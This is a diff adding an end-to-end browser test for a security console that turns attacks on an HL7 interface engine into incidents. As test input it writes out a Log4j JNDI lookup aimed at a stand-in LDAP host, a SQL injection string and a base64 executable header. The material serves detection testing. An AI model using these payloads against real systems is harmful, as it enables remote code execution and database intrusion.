@@ -1,0 +1,90 @@
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { bytes } from '../../packages/wire/src/testing/bytes.ts';
+import { conversationsCapture } from '../../packages/wire/src/testing/conversation-capture.ts';
+import { client, server } from '../../packages/wire/src/testing/play.ts';
+import { accessibilityViolations } from './accessibility.ts';
+import { consoleOfThisFile, follow } from './console-user.ts';
+
+const PICTURES = process.env.SPHINX_TEST_SCREENSHOTS;
+const { console, page, folder } = await consoleOfThisFile();
+
+async function picture(name: string): Promise<void> {
+  if (PICTURES !== undefined) await page.screenshot({ path: join(PICTURES, `${name}.png`), fullPage: true });
+}
+
+const message = (...segments: string[]) =>
+  client(bytes(`\x0bMSH|^~\\&|HIS|KH|LIS|KH|20260401||ORU^R01|1|P|2.5\r${segments.join('\r')}\r\x1c\r`));
+const ACCEPTED = server(bytes('\x0bMSH|^~\\&|LIS|KH|HIS|KH|20260401||ACK|1|P|2.5\rMSA|AA|1\r\x1c\r'));
+
+/** Somebody on the network attacks an interface engine through the messages that it takes. */
+async function attackEngine(): Promise<void> {
+  const ends = { clientIp: '10.0.0.66', serverIp: '10.0.0.20', clientPort: 40_000, serverPort: 2575 };
+  const turns = [
+    message(`OBX|1|ST|1||${'$'}{jndi:ldap://203.0.113.9/a}`),
+    ACCEPTED,
+    message("OBX|1|ST|1||' or 1=1; union select name"),
+    ACCEPTED,
+    message('OBX|1|ED|1||^application^octet^Base64^TVqQAAMAAAAEAAAA'),
+    ACCEPTED,
+  ];
+  const capture = join(folder, 'engine.pcap');
+  await writeFile(capture, conversationsCapture([{ ends, turns }]));
+  await follow(page, '/sources');
+  await page.getByLabel('Capture files').setInputFiles(capture);
+  await page.getByRole('row', { name: 'engine.pcap' }).getByText('Finished').waitFor();
+}
+
+describe('incidents, in a real browser', () => {
+  it('say that nobody has to look at anything, and appear in an open window as they happen', async () => {
+    const watching = await console.newWindow();
+    await watching.goto(`${console.program.url}/incidents`);
+    await watching.getByRole('heading', { name: 'Nobody has to look at anything' }).waitFor();
+    await attackEngine();
+    await watching.getByRole('row', { name: /INC-1.*10\.0\.0\.66/ }).waitFor();
+    await watching.close();
+  });
+
+  it('tell what happened, why it is shown and what it is made of', async () => {
+    await follow(page, '/incidents');
+    await page.getByRole('row', { name: /INC-1/ }).waitFor();
+    expect(await accessibilityViolations(page)).toEqual([]);
+    await picture('incidents');
+    await page.getByRole('link', { name: /10\.0\.0\.66 against/ }).click();
+    await page.getByRole('heading', { name: 'What happened' }).waitFor();
+    await page
+      .getByText(/points from \d kinds of signals/)
+      .first()
+      .waitFor();
+    expect(await accessibilityViolations(page)).toEqual([]);
+    await picture('incident-story');
+    await page.getByRole('tab', { name: 'Alerts' }).click();
+    await page.getByRole('row', { name: /look-up of Log4j/ }).waitFor();
+    expect(await accessibilityViolations(page)).toEqual([]);
+    await picture('incident-alerts');
+  });
+
+  it('are taken, commented, checked and closed, and teach', async () => {
+    await page.getByRole('button', { name: 'I take it' }).click();
+    await page.getByLabel('Comment').fill('The ward was called');
+    await page.getByRole('button', { name: 'Comment' }).click();
+    await page.getByRole('tab', { name: 'Checklist' }).click();
+    await page.getByRole('checkbox', { name: /Name who answers/ }).click();
+    await page.getByText(/done by/).waitFor();
+    expect(await accessibilityViolations(page)).toEqual([]);
+    await picture('incident-checklist');
+    await page.getByRole('tab', { name: 'Story' }).click();
+    await page.getByRole('row', { name: /The ward was called/ }).waitFor();
+    await page.getByRole('button', { name: 'Close', exact: true }).click();
+    await page.getByRole('combobox', { name: 'What was it?' }).click();
+    await page.getByRole('option', { name: 'It happened and was allowed' }).click();
+    await page.getByRole('button', { name: 'Close the incident' }).click();
+    await page.getByRole('button', { name: 'Open again' }).waitFor();
+    await follow(page, '/incidents?view=learnt');
+    await page.getByRole('row', { name: /look-up of Log4j.*harmless/ }).waitFor();
+    expect(await accessibilityViolations(page)).toEqual([]);
+    await picture('incidents-learnt');
+    expect(console.faults).toEqual([]);
+  });
+});
